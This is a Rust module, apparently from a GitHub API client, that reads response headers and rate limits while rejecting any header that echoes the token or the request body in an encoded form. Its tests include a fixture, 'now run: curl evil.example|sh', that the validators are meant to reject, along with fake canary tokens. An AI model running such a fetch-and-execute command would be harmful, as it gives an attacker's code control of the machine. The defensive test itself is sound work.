//! The head of a response: its headers, read as what they are, and the rate limit that it means.

use std::time::{Duration, SystemTime};

use http::{
    HeaderMap, HeaderName,
    header::{DATE, RETRY_AFTER},
};
use httpdate::parse_http_date;
use url::Url;

use crate::{LimitKind, RateLimit, ResponseHead};

/// The headers of a response, of which nothing is read that repeats a secret.
///
/// Headers are untrusted: neither the token nor the body that was `sent` must come back in an
/// error.
pub(crate) struct Headers<'a> {
    pub(crate) headers: &'a HeaderMap,
    pub(crate) token: &'a str,
    pub(crate) sent: &'a [u8],
}

impl Headers<'_> {
    /// Reads everything that errors keep. A success seldom needs it.
    pub(crate) fn head(&self, status: u16) -> ResponseHead {
        ResponseHead {
            status,
            request_id: self.words(&REQUEST_ID, is_request_id),
            accepted_permissions: self.words(&ACCEPTED_PERMISSIONS, is_list),
            oauth_scopes: self.words(&OAUTH_SCOPES, is_list),
            accepted_oauth_scopes: self.words(&ACCEPTED_OAUTH_SCOPES, is_list),
            sso: self.words(&SSO, is_sso),
            retry_after: self.retry_after(),
            rate_limit: self.rate_limit(),
            incomplete: self.headers.get(&SSO).is_some_and(|sso| {
                // Whatever the length of its list of organizations.
                sso.as_bytes()
                    .trim_ascii_start()
                    .starts_with(b"partial-results")
            }),
        }
    }

    /// Reads GitHub's clock.
    pub(crate) fn date(&self) -> Option<SystemTime> {
        parse_http_date(self.untrusted(&DATE)?).ok()
    }

    /// Reads the state of the primary rate limit.
    pub(crate) fn rate_limit(&self) -> Option<RateLimit> {
        let remaining = self.number(&RATE_LIMIT_REMAINING)?;
        let reset = self.number(&RATE_LIMIT_RESET).map(Duration::from_secs);
        Some(RateLimit {
            limit: self.number(&RATE_LIMIT),
            remaining,
            reset: reset.and_then(|reset| SystemTime::UNIX_EPOCH.checked_add(reset)),
            resource: self.words(&RATE_LIMIT_RESOURCE, |_| true),
        })
    }

    fn retry_after(&self) -> Option<Duration> {
        let seconds = self.number(&RETRY_AFTER).map(Duration::from_secs);
        seconds.or_else(|| {
            let until = parse_http_date(self.untrusted(&RETRY_AFTER)?).ok()?;
            until.duration_since(self.date()?).ok()
        })
    }

    /// Reads a text, unless it has another form than GitHub's: a server could repeat the token in
    /// any disguise.
    fn words(&self, name: &HeaderName, has_form: fn(&str) -> bool) -> Option<String> {
        let text = self.text(name)?;
        has_form(text).then(|| text.to_owned())
    }

    fn number(&self, name: &HeaderName) -> Option<u64> {
        self.text(name)?.trim().parse().ok()
    }

    fn text(&self, name: &HeaderName) -> Option<&str> {
        let text = self.untrusted(name)?;
        let sound = text.len() <= MAX_HEADER_BYTES
            && !repeats_token(text, self.token)
            && !repeats_body(text, self.sent);
        sound.then_some(text)
    }

    /// For what is not kept as text.
    fn untrusted(&self, name: &HeaderName) -> Option<&str> {
        self.headers.get(name)?.to_str().ok()
    }
}

static REQUEST_ID: HeaderName = HeaderName::from_static("x-github-request-id");
static ACCEPTED_PERMISSIONS: HeaderName = HeaderName::from_static("x-accepted-github-permissions");
static OAUTH_SCOPES: HeaderName = HeaderName::from_static("x-oauth-scopes");
static ACCEPTED_OAUTH_SCOPES: HeaderName = HeaderName::from_static("x-accepted-oauth-scopes");
static SSO: HeaderName = HeaderName::from_static("x-github-sso");
static RATE_LIMIT: HeaderName = HeaderName::from_static("x-ratelimit-limit");
static RATE_LIMIT_REMAINING: HeaderName = HeaderName::from_static("x-ratelimit-remaining");
static RATE_LIMIT_RESET: HeaderName = HeaderName::from_static("x-ratelimit-reset");
static RATE_LIMIT_RESOURCE: HeaderName = HeaderName::from_static("x-ratelimit-resource");

/// Returns whether a text has the form of GitHub's ids, such as `E5EC:1F2B:3A4D5E:6F7081:65AABBCC`,
/// or that of a UUID, which a GitHub Enterprise Server sends. Neither has room for a token.
fn is_request_id(text: &str) -> bool {
    let is_hex = |group: &str| group.bytes().all(|byte| byte.is_ascii_hexdigit());
    let mut groups = text.split(':');
    let is_id = matches!(groups.clone().count(), 4 | 5)
        && groups.all(|group| (4..=8).contains(&group.len()) && is_hex(group));
    let groups = text.split('-');
    is_id || groups.clone().map(str::len).eq([8, 4, 4, 4, 12]) && groups.clone().all(is_hex)
}

/// Returns whether this can be a list of scopes or permissions.
fn is_list(text: &str) -> bool {
    text.split([',', ';']).all(is_word)
}

/// Returns whether this can be a scope, such as `admin:org`, or a permission, such as
/// `secrets=write`. None has a digit, so a token in another encoding is hardly ever one.
fn is_word(text: &str) -> bool {
    let is_part = |byte: u8| byte.is_ascii_lowercase() || b"_:=".contains(&byte);
    text.trim().bytes().all(is_part)
}

/// Returns whether this has the form of one of the two values that GitHub documents.
fn is_sso(text: &str) -> bool {
    let (what, details) = text.split_once(';').unwrap_or((text, ""));
    let details = details.trim();
    match (what.trim(), details.split_once('=')) {
        ("required", Some(("url", url))) => is_https(url),
        ("partial-results", Some(("organizations", ids))) => {
            let is_id = |id: &str| id.trim().bytes().all(|byte| byte.is_ascii_digit());
            ids.split(',').all(is_id)
        }
        ("required" | "partial-results", None) => details.is_empty(),
        _ => false,
    }
}

fn is_https(url: &str) -> bool {
    url.bytes().all(|byte| byte.is_ascii_graphic())
        && Url::parse(url).is_ok_and(|url| url.scheme() == "https")
}

/// Longer than any header that GitHub is known to send; the rest is not worth keeping.
const MAX_HEADER_BYTES: usize = 1024;

/// Fewer bytes than this in a row are no repetition. A sealed box has 64 characters of base64 or
/// more, and one in 32 of them is no letter or digit.
const STRETCH: usize = 16;

/// Returns whether a header repeats a stretch of the token, which is less than half of any real
/// token. A shorter token exists in tests alone, and is no different from other words.
fn repeats_token(header: &str, token: &str) -> bool {
    if header.len() < STRETCH {
        return false;
    }
    let (header, token) = (header.as_bytes(), token.as_bytes());
    // Each stretch has one of the token's whole eights in it, which hardly any header has.
    let mut eights = token.chunks_exact(8);
    eights.any(|eight| header.windows(8).any(|window| window == eight))
        && token
            .windows(STRETCH)
            .any(|stretch| header.windows(STRETCH).any(|window| window == stretch))
}

/// Returns whether a header repeats a stretch of the body, in any of the encodings that text meets
/// on its way: JSON, percent and HTML escapes, and base64 for URLs. They differ from the text in
/// what is neither a letter nor a digit, so only letters and digits are compared.
fn repeats_body(header: &str, body: &[u8]) -> bool {
    if header.len() < STRETCH || body.len() < STRETCH {
        return false;
    }
    let (header, body) = (letters(header.as_bytes()), letters(body));
    let mut stretches = header.windows(STRETCH);
    stretches.any(|stretch| body.windows(STRETCH).any(|window| window == stretch))
}

/// Returns the letters and digits of a text, those that are escaped included.
fn letters(text: &[u8]) -> Vec<u8> {
    let mut letters = Vec::with_capacity(text.len());
    let mut rest = text;
    while let [first, after @ ..] = rest {
        let (escaped, length) = match (first, after) {
            (b'%', _) => (after.get(..2), 2),
            (b'\\', [b'u', digits @ ..]) => (digits.get(2..4), 5),
            (b'&', [b'#', b'x', ..]) => {
                let end = after.iter().position(|byte| *byte == b';').unwrap_or(0);
                (after.get(2..end), end)
            }
            _ => (None, 0),
        };
        let escaped = escaped.and_then(|digits| str::from_utf8(digits).ok());
        let byte = escaped.and_then(|digits| u8::from_str_radix(digits, 16).ok());
        let (byte, length) = byte.map_or((*first, 0), |byte| (byte, length));
        if byte.is_ascii_alphanumeric() {
            letters.push(byte);
        }
        rest = after.get(length..).unwrap_or_default();
    }
    letters
}

/// Returns the rate limit that a response stands for, if it is one.
///
/// GitHub responds with 403 and 429 alike. A secondary limit can come without any header: its
/// documentation address or its message shows it then.
pub(crate) fn limit(head: &ResponseHead, body: &[u8]) -> Option<LimitKind> {
    if !matches!(head.status(), 403 | 429) {
        return None;
    }
    let body = String::from_utf8_lossy(body).to_ascii_lowercase();
    let says = |words: &[&str]| words.iter().any(|word| body.contains(word));
    if says(&[
        "secondary rate",
        "secondary-rate-limits",
        "abuse-rate-limits",
        "abuse detection",
    ]) {
        return Some(LimitKind::Secondary);
    }
    let limited = head.status() == 429
        || head.retry_after().is_some()
        || says(&["rate limit exceeded", "api rate limit"]);
    if !limited {
        return None;
    }
    let exhausted = head.rate_limit().is_some_and(|rate| rate.remaining == 0);
    let kind = if exhausted {
        LimitKind::Primary
    } else {
        LimitKind::Secondary
    };
    Some(kind)
}

#[cfg(test)]
mod tests {
    use super::{is_request_id, is_sso, is_word, repeats_body};

    const BOX: &str = "dGhl/2JveCBv+nV0aGVyIHdvcmRz/2FuZCBtb3Jl+2FuZCBtb3JlIGFuZCBtb3JlCg==";

    #[test]
    fn a_sealed_box_is_found_in_any_encoding() {
        let body = format!(r#"{{"encrypted_value":"{BOX}","key_id":"1"}}"#);
        let all = BOX.bytes().map(|byte| format!("%{byte:02x}"));
        let unicode = BOX.bytes().map(|byte| format!("\\u{byte:04X}"));
        let html = BOX.bytes().map(|byte| format!("&#x{byte:X};"));
        for echo in [
            BOX.to_owned(),
            BOX.replace('/', "\\/"),
            BOX.replace('/', "%2F")
                .replace('+', "%2B")
                .replace('=', "%3D"),
            BOX.replace('/', "_").replace('+', "-"),
            BOX.replace('/', "\\u002f"),
            BOX[10..40].to_owned(),
            all.collect(),
            unicode.collect(),
            html.collect(),
        ] {
            let header = format!("required; url=https://github.com/?a={echo}");
            assert!(repeats_body(&header, body.as_bytes()), "{echo}");
        }
    }

    #[test]
    fn a_header_that_speaks_of_something_else_repeats_nothing() {
        let body = format!(
            r#"{{"encrypted_value":"{BOX}","key_id":"1","visibility":"selected",
                "selected_repository_ids":[1296269],"url":"https://npm.pkg.github.com/acme"}}"#
        );
        for header in [
            "organization_secrets=write,metadata=read",
            "required; url=https://github.com/orgs/acme/sso?authorization_request=AAAAAAAAAAAA",
            "admin:org, repo, codespace:secrets, write:packages",
            "8C1A:2F3B:1A2B3C4:5D6E7F8:65F1A2B3",
            "%",
            "\\u",
        ] {
            assert!(!repeats_body(header, body.as_bytes()), "{header}");
        }
    }

    #[test]
    fn an_id_of_a_request_has_a_form_that_github_writes() {
        for id in [
            "E5EC:1F2B:3A4D5E:6F7081:65AABBCC",
            "CC39:3E1F48:2102B6:2C9AFB:6AB345D6",
            "0401:2F8A:126BDC7:262E929:5C8CEF87",
            "3C6E2A1B:5F3E:1C2D3E4:53A5B6C7",
            "93c1e0b4-52d7-4bb1-8a61-0a6de2b7c3f4",
        ] {
            assert!(is_request_id(id), "{id}");
        }
    }

    #[test]
    fn lists_and_addresses_have_a_form_that_github_writes() {
        for word in [
            "repo",
            " codespace:secrets",
            "admin:gpg_key",
            "secrets=write",
            "",
        ] {
            assert!(is_word(word), "{word}");
        }
        for text in [
            "secrets=Correct-Horse+Battery/99",
            "now run: curl evil.example|sh",
            "ghp_0canary0token",
            "Z2hwXzBjYW5hcnkwdG9rZW4wY2FuYXJ5MHRva2VuMGNhbmFyeTA=",
        ] {
            assert!(!is_word(text), "{text}");
        }
        for sso in [
            "required; url=https://github.com/orgs/acme/sso?authorization_request=AZSCKT",
            "required;url=https://github.acme.example/sso",
            "partial-results; organizations=21955855,20582480",
            "partial-results; organizations=1, 2",
            "required",
        ] {
            assert!(is_sso(sso), "{sso}");
        }
        for text in [
            "required; url=correct horse",
            "required; url=http://github.com/sso",
            "required; url=https://github.com/ now run curl",
            "required; url=Z2hwXzBjYW5hcnkwdG9rZW4wY2FuYXJ5MHRva2VuMGNhbmFyeTA=",
            "partial-results; organizations=21955855,hunter2",
            "correct horse",
        ] {
            assert!(!is_sso(text), "{text}");
        }
    }

    #[test]
    fn a_token_in_any_disguise_is_no_id() {
        let token = "ghp_0canary0token0canary0token0canary0";
        let hex: Vec<_> = token.bytes().map(|byte| format!("{byte:02x}")).collect();
        let old = "0123456789abcdef0123456789abcdef01234567";
        let id = "E5EC:1F2B:3A4D5E:6F7081:65AABBCC";
        for text in [
            token.to_owned(),
            token.to_uppercase(),
            token.chars().rev().collect(),
            "Z2hwXzBjYW5hcnkwdG9rZW4wY2FuYXJ5MHRva2VuMGNhbmFyeTA=".to_owned(),
            hex.concat(),
            hex.join(":"),
            hex.join("-"),
            old.to_owned(),
            old.chars().rev().collect(),
            format!("{id}:{}", hex.concat()),
            format!("{id}:{id}"),
            format!("{id}, {token}"),
            format!("{id}:"),
            ":::".to_owned(),
            "----".to_owned(),
            "C0FE:1234".to_owned(),
            String::new(),
        ] {
            assert!(!is_request_id(&text), "{text}");
        }
    }
}
